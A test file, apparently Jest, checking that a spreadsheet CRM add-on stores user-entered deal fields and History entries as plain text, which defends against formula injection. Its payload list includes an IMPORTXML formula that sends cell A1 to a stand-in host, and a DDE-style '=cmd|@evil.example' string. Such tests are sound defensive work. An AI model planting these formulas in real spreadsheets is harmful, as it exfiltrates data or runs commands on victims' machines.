/**
 * OWASP CSV / formula injection: every text the add-on writes through the sidebar or the edit
 * trigger (Next Step, Lost Reason, and the deal name, stages and user copied into History) stays
 * text: no formula in the cell, and it reads back exactly as typed.
 */
import { typeInto } from '../../host';
import { call, loadInWorld } from '../support/code';
import { ANA, col, historyRows, makeWorld, run } from './support';

const PAYLOADS = [
  '=IMPORTXML(CONCAT("http://x/?",A1),"//a")',
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
];

type Result = { ok: boolean; message: string; deal: { nextStep: string; lostReason: string } | null };
const ACME = { id: 'D-ACME0001', row: 2, name: 'Acme renewal', expectedStage: 'Proposal' };

describe.each(PAYLOADS)('payload %j', (payload) => {
  test('Next Step through the sidebar stays text and reads back unchanged', () => {
    const world = makeWorld();
    const result = run<Result>(world, ANA, 'sidebarUpdate', {
      ...ACME,
      changes: { nextStep: payload },
      seen: { nextStep: 'Send proposal' },
    });
    expect(result.ok).toBe(true);
    const a1 = `Deals!${col('Next Step')}2`;
    expect(world.formulaAt(a1)).toBe('');
    expect(world.cell(a1).value).toBe(payload);
    expect(result.deal?.nextStep).toBe(payload);
    world.select(ANA, 'Deals!B2');
    const view = run<{ deal: { nextStep: string } }>(world, ANA, 'sidebarSelection');
    expect(view.deal.nextStep).toBe(payload);
  });

  test('Lost Reason through the sidebar stays text and reads back unchanged', () => {
    const world = makeWorld();
    const result = run<Result>(world, ANA, 'sidebarMove', { ...ACME, toStage: 'Lost', lostReason: payload });
    expect(result.ok).toBe(true);
    const a1 = `Deals!${col('Lost Reason')}2`;
    expect(world.formulaAt(a1)).toBe('');
    expect(world.cell(a1).value).toBe(payload);
    expect(result.deal?.lostReason).toBe(payload);
  });

  test('a deal named with it, moved by the sidebar and by an edit: History cells are text', () => {
    const world = makeWorld();
    // The user's own text cells (typed with a leading apostrophe, so text).
    world.setCell(`Deals!${col('Deal')}2`, `'${payload}`, 'user');
    world.setCell(`Deals!${col('Deal')}3`, `'${payload}`, 'user');
    expect(world.cell(`Deals!${col('Deal')}2`).value).toBe(payload);
    const moved = run<Result>(world, ANA, 'sidebarMove', {
      ...ACME,
      name: payload,
      toStage: 'Negotiation',
    });
    expect(moved.ok).toBe(true);
    const ctx = loadInWorld(world, { user: ANA, authMode: 'LIMITED', trigger: 'edit' });
    call(ctx, 'onEdit', typeInto(ctx, `Deals!${col('Stage')}3`, 'Qualified'));
    world.endExecution(ctx);
    const rows = historyRows(world);
    expect(rows).toHaveLength(3);
    const formulas = world.sheetFormulas('History');
    expect(formulas.flat().filter((f) => f !== '')).toEqual([]);
    expect(rows[1]?.[2]).toBe(payload); // the sidebar copies the name exactly
    expect(rows[2]?.[2]).toBe(payload.trim()); // the edit trigger records the name as the metrics read it
  });
});

test('Changed By and stage names are neutralised too', () => {
  const world = makeWorld();
  world.setSheet('Stages', [
    ['Stage', 'Probability', 'Stalled After (days)', 'Outcome'],
    ['Proposal', 0.5, 10, 'Open'],
    ['-Review', 0.7, 10, 'Open'],
    ['Won', 1, '', 'Won'],
    ['Lost', 0, '', 'Lost'],
  ]);
  const user = '=cmd|@evil.example';
  const result = run<Result>(world, user, 'sidebarMove', { ...ACME, toStage: '-review' });
  expect(result.ok).toBe(true);
  expect(world.formulaAt(`Deals!${col('Stage')}2`)).toBe('');
  expect(world.cell(`Deals!${col('Stage')}2`).value).toBe('-Review');
  expect(
    world
      .sheetFormulas('History')
      .flat()
      .filter((f) => f !== ''),
  ).toEqual([]);
  expect(historyRows(world)[1]?.slice(4, 7)).toEqual(['-Review', 5 + 5, user]);
});
